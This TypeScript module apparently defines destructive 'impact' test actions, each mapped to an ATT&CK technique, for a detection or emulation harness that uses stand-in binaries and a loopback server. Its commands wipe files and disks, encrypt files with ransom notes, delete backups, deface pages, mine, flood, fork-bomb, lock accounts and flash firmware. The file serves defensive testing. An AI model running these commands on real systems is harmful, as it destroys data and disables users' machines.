import type { Action } from '../action.ts'
import { server, webServer } from '../loopback-server.ts'
import { standIn } from './stand-in.ts'

export const impact: readonly Action[] = [
  {
    id: 'blind-data-destroyed',
    title: 'Files overwritten and removed',
    technique: 'T1485',
    needs: ['dd'],
    run: 'dd of=/var/log/syslog if=/dev/zero count=2 bs=1k; rm -rf /var/www /home/ann/Documents --no-preserve-root; find /home -name "*.txt" -delete',
    effect: '! test -e /home/ann/Documents',
  },
  {
    id: 'blind-data-destroyed-shred',
    title: 'Files destroyed by shred',
    technique: 'T1485',
    needs: ['shred'],
    run: 'find /home/ann -type f -exec shred -n 1 -z -u {} +',
    effect: '! test -e /home/ann/Documents/letter.txt',
  },
  {
    id: 'blind-ransom-gpg',
    title: 'File encrypted by gpg and the plain one removed',
    technique: 'T1486',
    needs: ['gpg'],
    run: `echo 'pwd' | gpg --batch --yes --passphrase-fd 0 --pinentry-mode loopback --cipher-algo AES-256 -o /home/ann/Documents/letter.txt.gpg -c /home/ann/Documents/letter.txt; rm /home/ann/Documents/letter.txt`,
    effect: '! test -e /home/ann/Documents/letter.txt',
  },
  {
    id: 'blind-ransom-openssl',
    title: 'File encrypted with a public key by openssl',
    technique: 'T1486',
    needs: ['openssl'],
    run: `openssl genrsa -out /tmp/k 2048; openssl rsa -in /tmp/k -pubout -out /tmp/pub; head -c 100 /home/ann/Documents/letter.txt > /tmp/i; openssl pkeyutl -encrypt -inkey /tmp/pub -pubin -in /tmp/i -out /home/ann/Documents/letter.txt.locked; rm -f /home/ann/Documents/letter.txt; echo pay > /home/ann/README_TO_DECRYPT.txt`,
    effect: 'test -s /home/ann/Documents/letter.txt.locked',
  },
  {
    id: 'blind-ransom-python',
    title: 'Many files encrypted by Python',
    technique: 'T1486',
    needs: ['python3'],
    before: 'for i in $(seq 40); do echo text >/home/ann/Documents/$i.docx; done',
    run: `python3 -c '
import os
d = "/home/ann/Documents/"
for n in os.listdir(d):
    b = bytes(x ^ 85 for x in open(d + n, "rb").read())
    open(d + n + ".enc", "wb").write(b); os.remove(d + n)'`,
    effect: 'test -s /home/ann/Documents/1.docx.enc',
  },
  {
    id: 'blind-services-stopped',
    title: 'Services stopped',
    technique: 'T1489',
    before: standIn('systemctl', 'service'),
    run: 'systemctl stop mysql; systemctl stop nginx; service postgresql stop; killall -9 mysqld 2>/dev/null; pkill -9 java; :',
  },
  {
    id: 'blind-backups-removed',
    title: 'Backups and snapshots removed',
    technique: 'T1490',
    before: `${standIn('vgremove', 'lvremove', 'btrfs', 'zfs', 'timeshift')}; mkdir -p /var/backups; echo b >/var/backups/x.tar.gz`,
    run: 'rm -rf /var/backups/*; lvremove -f /dev/vg/snap; btrfs subvolume delete /.snapshots/1; zfs destroy -r pool@a; timeshift --delete-all',
    effect: '! test -e /var/backups/x.tar.gz',
  },
  {
    id: 'blind-motd-changed',
    title: 'Message at login changed',
    technique: 'T1491.001',
    run: `echo 'hacked' > /etc/motd; echo 'hacked' > /etc/issue`,
    effect: 'grep -q hacked /etc/motd',
  },
  {
    id: 'blind-website-changed',
    title: 'Page of the web server replaced',
    technique: 'T1491.002',
    before: 'echo hello >/var/www/html/index.html',
    run: `echo '<h1>hacked</h1>' > /var/www/html/index.html`,
    effect: 'grep -q hacked /var/www/html/index.html',
  },
  {
    id: 'blind-miner-yes',
    title: 'Processor kept busy',
    technique: 'T1496',
    run: 'timeout 1 yes > /dev/null; :',
    effect: 'true',
  },
  {
    id: 'blind-miner',
    title: 'Miner started by its options',
    technique: 'T1496',
    before: 'cp /bin/true /tmp/xmrig',
    run: '/tmp/xmrig -o stratum+tcp://198.51.100.7:3333 -u 4wallet -p x --donate-level 1 -k --tls',
  },
  {
    id: 'blind-miner-connection',
    title: 'Protocol of miners spoken by Python',
    technique: 'T1496',
    needs: ['python3'],
    before: server(3333),
    run: `python3 -c 'import socket; s = socket.create_connection(("198.51.100.7", 3333)); s.send(b"{\\"method\\":\\"login\\"}\\n")'`,
    effect: 'sleep 0.2; grep -q login /run/got',
  },
  {
    id: 'blind-flood',
    title: 'Flood by tools',
    technique: 'T1498.001',
    before: standIn('hping3', 'slowloris'),
    run: 'hping3 -S --flood -p 80 198.51.100.7; hping3 --udp --flood --rand-source 198.51.100.7; slowloris 198.51.100.7',
  },
  {
    id: 'blind-http-flood',
    title: 'Many requests by Python',
    technique: 'T1499.002',
    needs: ['python3'],
    before: webServer(80),
    run: `python3 -c '
import socket
for i in range(60):
    s = socket.create_connection(("198.51.100.7", 80)); s.send(b"GET / HTTP/1.0\\r\\n\\r\\n"); s.close()
print("sent")'`,
    effect: 'grep -q sent $OUT',
  },
  {
    id: 'blind-fork-bomb',
    title: 'Processes that multiply',
    technique: 'T1499.001',
    shell: 'bash',
    run: 'f() { [ "$1" -gt 5 ] || { f $(($1 + 1)) & f $(($1 + 1)); }; }; f 0; echo forked',
    effect: 'grep -q forked $OUT',
  },
  {
    id: 'blind-reboot',
    title: 'Machine shut down',
    technique: 'T1529',
    before: standIn('shutdown', 'reboot', 'halt', 'poweroff'),
    run: 'shutdown -r now; reboot -f; halt -p; poweroff',
  },
  {
    id: 'blind-sysrq-reboot',
    title: 'Machine restarted through /proc',
    technique: 'T1529',
    omitted: 'it would restart the machine',
    run: 'echo b > /proc/sysrq-trigger',
  },
  {
    id: 'blind-accounts-locked',
    title: 'Passwords changed and accounts locked',
    technique: 'T1531',
    needs: ['usermod'],
    before: standIn('chpasswd', 'userdel'),
    run: 'usermod -L ann; passwd -l ann; echo ann:HuHuHUHoHo283283 | chpasswd; userdel -f ann; :',
  },
  {
    id: 'blind-disk-wiped',
    title: 'Disk overwritten',
    technique: 'T1561.001',
    before: `rm -f /dev/sdz; truncate -s 1M /dev/sdz`,
    run: 'dd if=/dev/zero of=/dev/sdz bs=64k count=4 conv=notrunc; shred -n 1 /dev/sdz',
    effect: 'test -s /dev/sdz',
  },
  {
    id: 'blind-partition-table',
    title: 'Structure of a disk destroyed',
    technique: 'T1561.002',
    before: `${standIn('wipefs', 'mkfs.ext4', 'parted', 'sgdisk')}; truncate -s 1M /dev/sdz`,
    run: 'dd if=/dev/urandom of=/dev/sdz bs=512 count=1 conv=notrunc; wipefs -a /dev/sdz; mkfs.ext4 -F /dev/sdz; parted /dev/sdz mklabel gpt; sgdisk --zap-all /dev/sdz',
  },
  {
    id: 'blind-data-manipulated',
    title: 'Records of a file changed',
    technique: 'T1565.001',
    needs: ['sqlite3'],
    before:
      'mkdir -p /var/lib/app; sqlite3 /var/lib/app/a.db "create table t(x); insert into t values(1)"',
    run: `sqlite3 /var/lib/app/a.db 'update t set x = 2'; sed -i 's/secret/changed/' /var/www/html/config.php`,
    effect: 'grep -q changed /var/www/html/config.php',
  },
  {
    id: 'blind-firmware',
    title: 'Firmware overwritten',
    technique: 'T1495',
    before: standIn('flashrom', 'fwupdmgr'),
    run: 'flashrom -p internal -w /tmp/bios.bin; fwupdmgr install /tmp/x.cab --allow-older',
  },
]
